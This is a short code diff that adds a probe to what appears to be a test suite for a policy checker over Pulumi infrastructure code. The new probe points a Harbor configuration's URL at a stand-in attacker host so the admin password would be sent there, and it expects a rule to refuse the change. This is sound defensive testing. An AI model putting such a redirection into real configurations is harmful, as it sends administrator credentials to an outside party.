@@ -705,6 +705,13 @@ PROBES = [
     ),
     Probe(
         "earlier",
+        "a Harbor object sending the admin password elsewhere",
+        "dev",
+        lambda s: [changed(s, "harbor-config-gc", lambda p: p.update(harbor_url="https://harbor.attacker.example"))],
+        refused_by="pulumi-python-dynamic-harbor-gcschedule",
+    ),
+    Probe(
+        "earlier",
         "a password in a command's environment",
         "dev",
         lambda s: [changed(s, "harbor-install-docker", lambda p: p.update(environment={"HARBOR_PASSWORD": "hunter2"}))],
